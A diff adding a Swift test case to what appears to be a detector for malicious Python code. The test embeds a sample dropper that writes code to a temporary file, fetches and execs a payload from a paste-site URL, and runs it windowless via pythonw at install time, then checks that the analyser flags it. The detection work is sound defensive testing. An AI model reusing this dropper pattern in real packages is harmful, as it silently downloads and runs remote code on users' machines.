@@ -106,6 +106,29 @@ import Testing
         #expect(PythonTestSupport.kinds(viaPath).contains(.spawnProcess), "\(PythonTestSupport.describe(viaPath))")
     }
 
+    @Test func codeWrittenToATemporaryFileAndRunWindowlessIsADropper() {
+        let analysis = PythonTestSupport.analyse(
+            """
+            from tempfile import NamedTemporaryFile as _f
+            from sys import executable as _e
+            from os import system as _s
+            class http:
+                _t = _f(delete=False)
+                _t.write(b\"\"\"from urllib.request import urlopen;exec(urlopen('https://paste.fo/raw/x').read())\"\"\")
+                _t.close()
+                _s(f"start {_e.replace('.exe', 'w.exe')} {_t.name}")
+            """, context: .install)
+        let atWrite = Set(analysis.allBehaviours.filter { $0.line == 6 }.map(\.kind))
+        #expect(
+            atWrite.isSuperset(of: [.useNetwork, .evalCode, .downloadExecute, .urlPaste]),
+            "\(PythonTestSupport.describe(analysis))")
+        let atRun = Set(analysis.allBehaviours.filter { $0.line == 8 }.map(\.kind))
+        #expect(atRun.isSuperset(of: [.spawnProcess, .hiddenProcess, .writeExecute]), "\(atRun)")
+        let reading = PythonTestSupport.analyse(
+            "import tempfile, os\nt = tempfile.NamedTemporaryFile('r')\nos.system(f'python {t.name}')\n")
+        #expect(!PythonTestSupport.kinds(reading).contains(.writeExecute), "\(PythonTestSupport.describe(reading))")
+    }
+
     @Test func writtenTextThatIsNotAProgramAddsNothing() {
         let analysis = PythonTestSupport.analyse(
             """
